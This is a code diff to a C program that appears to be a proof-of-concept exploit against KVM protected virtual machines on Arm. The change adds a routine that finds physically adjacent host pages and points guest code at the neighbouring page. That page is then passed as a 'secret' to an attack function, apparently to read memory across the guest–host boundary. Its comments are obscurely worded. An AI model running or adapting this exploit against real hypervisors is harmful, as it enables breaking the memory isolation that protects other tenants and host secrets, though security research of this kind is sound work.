@@ -18,11 +18,11 @@
 #define KVM_VM_TYPE_ARM_PROTECTED (1UL << 31)
 
 #define MEMORY                    0x40000000UL
-#define BYTES                     0x40000UL
+#define BYTES                     0x100000UL
 #define READY                     0x09000000UL /* addresses that the guest stores to */
 #define CHANGED                   0x09000008UL
 
-/* A page behind this one is filled, and then compared: which, and its words, lie behind the code.
+/* A page behind the first one is filled, and then compared: which, and its words, lie behind the code.
  */
 extern const char guest_begin[], guest_end[];
 __asm__(".pushsection .rodata\n"
@@ -135,12 +135,30 @@ static unsigned long next(unsigned int *value)
 	return run->mmio.phys_addr;
 }
 
-/* The code, and behind it what it looks at. */
-static void load(char *memory, unsigned long bytes)
+/*
+ * A page whose neighbour below is one of ours, too, that nobody needs: an attack upon both of them
+ * hurts no bystander.
+ */
+static char *find_secret(char *memory, unsigned long bytes)
 {
-	const unsigned long behind[] = {MEMORY + bytes, bytes / 8};
+	static unsigned long at[BYTES / 4096];
+	unsigned long i, j;
 
-	memset(memory, 0, BYTES);
+	for (i = 1; i < BYTES / bytes; i++)
+		at[i] = address_of(memory + i * bytes);
+	for (i = 1; i < BYTES / bytes; i++)
+		for (j = 1; j < BYTES / bytes; j++)
+			if (at[i] + bytes == at[j])
+				return memory + j * bytes;
+	say("no two pages lie side by side");
+	exit(1);
+}
+
+/* The code, and behind it what it looks at. */
+static void load(char *memory, char *page, unsigned long bytes)
+{
+	const unsigned long behind[] = {MEMORY + (page - memory), bytes / 8};
+
 	memcpy(memory, guest_begin, guest_end - guest_begin);
 	memcpy(memory + (guest_end - guest_begin), behind, sizeof(behind));
 	__builtin___clear_cache(memory, memory + bytes);
@@ -151,9 +169,12 @@ int main(int count, char **words)
 	char *memory = mmap(NULL, BYTES, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
 	unsigned int value = 0, scans = 3;
 	unsigned long secret;
+	char *page;
 
-	load(memory, getpagesize());
-	secret = address_of(memory + getpagesize());
+	memset(memory, 0, BYTES);
+	page = find_secret(memory, getpagesize());
+	load(memory, page, getpagesize());
+	secret = address_of(page);
 	make(memory);
 	if (count == 3) {
 		attack(words[1], secret);
